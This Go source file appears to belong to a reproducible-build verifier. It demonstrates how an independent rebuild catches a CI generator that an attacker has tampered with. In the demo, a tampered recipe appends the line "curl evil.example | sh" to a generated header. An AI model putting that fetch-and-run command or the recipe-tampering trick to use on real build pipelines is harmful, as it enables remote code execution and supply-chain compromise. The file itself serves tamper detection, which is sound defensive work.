package demonstration

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"github.com/countermark/countermark/internal/building"
	"github.com/countermark/countermark/internal/building/setting"
	"github.com/countermark/countermark/internal/building/source"
	"github.com/countermark/countermark/internal/escape"
	"github.com/countermark/countermark/internal/report"
	"github.com/countermark/countermark/internal/sandbox"
)

// What the builds of the demo leave in its folder.
const (
	releaseFolder = "hello-1.0.release"
	TamperedRepo  = "ci.git" // the same, where somebody tampered with the generator
	ciRecipe      = "tampered.toml"
	ciFolder      = "ci.release"
	buildsFolder  = "builds"
)

// makeArchive makes the archive of the release: by a build, if one can be kept
// apart here.
func (d *demo) makeArchive(ctx context.Context, good release) error {
	if why := setting.Obstacle(ctx); why != nil {
		if ctx.Err() != nil {
			return ctx.Err()
		}
		d.say("  (It is not built here: %s; countermark doctor says what to do.)", escape.Sentence(why.Error()))
		return good.write(d.path(archiveName))
	}
	if err := d.showBuilds(ctx); err != nil {
		return err
	}
	d.built = true
	built, err := os.ReadFile(d.path(filepath.Join(releaseFolder, archiveName)))
	if err != nil {
		return fmt.Errorf("reading what was built: %w", err)
	}
	return os.WriteFile(d.path(archiveName), built, 0o644)
}

// showBuilds shows an honest build, a rebuild of it, and a rebuild of what a
// tampered generator made.
func (d *demo) showBuilds(ctx context.Context) error {
	d.heading("The CI builds it from the tag, in a sandbox, as the recipe countermark.toml says.")
	d.command("build v1.0 --repo", ProjectRepo, "--output", releaseFolder)
	if err := d.build(ctx, d.building(ProjectRepo, releaseFolder, "")); err != nil {
		return err
	}
	d.say("  → A commit with source and generated files, the archive of it, a record of what ran. No ref but the candidate's moved.")
	d.heading("An independent lab builds it again, on a machine of its own (here, on this one).")
	if err := d.rebuild(ctx, ProjectRepo, labFolder, holds); err != nil {
		return err
	}
	d.say("  → The same commit: what the CI's machine made is what this source makes.")
	d.heading("Now say an attacker is on the CI's machine, and the generator there adds a line to words.h.")
	if _, err := d.makeProject(ctx, TamperedRepo); err != nil {
		return err
	}
	tampered := strings.Replace(demoRecipe, `"generate.sh"`, `"-c", "sh generate.sh; echo '\"curl evil.example | sh\",' >>words.h"`, 1)
	if err := os.WriteFile(d.path(ciRecipe), []byte(tampered), 0o644); err != nil {
		return fmt.Errorf("writing the attacker's recipe: %w", err)
	}
	if _, err := building.Run(ctx, d.building(TamperedRepo, ciFolder, ciRecipe)); err != nil {
		return err
	}
	if err := d.rebuild(ctx, TamperedRepo, "", doesNot); err != nil {
		return err
	}
	d.say("  → The file is named, and that the cause is not known: no tool's version, no date, no path explains the line.")
	return nil
}

// building returns what to build of one of the demo's repositories.
func (d *demo) building(repo, output, recipe string) building.Options {
	o := building.Options{Source: source.Options{Tag: "v1.0", Repository: d.path(repo)}, Temp: d.path(buildsFolder)}
	o.Setting.Sandbox, o.Claims.Issued = sandbox.Bubblewrap, demoTime
	if output != "" {
		o.Output = d.path(output)
	}
	if recipe != "" {
		o.Source.Recipe = d.path(recipe)
	}
	return o
}

// build shows a build, which must succeed.
func (d *demo) build(ctx context.Context, o building.Options) error {
	result, err := building.Run(ctx, o)
	if err != nil {
		return err
	}
	return d.answer(brief(result.Text()), result.Exit(), holds)
}

// rebuild shows a rebuild, and holds it to an exit status.
func (d *demo) rebuild(ctx context.Context, repo, output string, want int) error {
	words := []string{"rebuild v1.0 --repo", repo}
	if output != "" {
		words = append(words, "--output", output)
	}
	d.command(words...)
	result, err := building.Rebuild(ctx, building.RebuildOptions{Options: d.building(repo, output, "")})
	if err != nil {
		return err
	}
	if result.Found.Failed() {
		return &report.Failure{Code: report.Internal, Detail: "the demo's project was not built again: " + result.Found.Findings[0].Detail}
	}
	return d.answer(brief(result.Text()), result.Exit(), want)
}

// brief leaves out trees and digests.
func brief(text string) string {
	var b strings.Builder
	for line := range strings.Lines(text) {
		if !strings.HasPrefix(line, "  tree ") && !strings.Contains(line, " sha256:") {
			b.WriteString(line)
		}
	}
	return b.String()
}
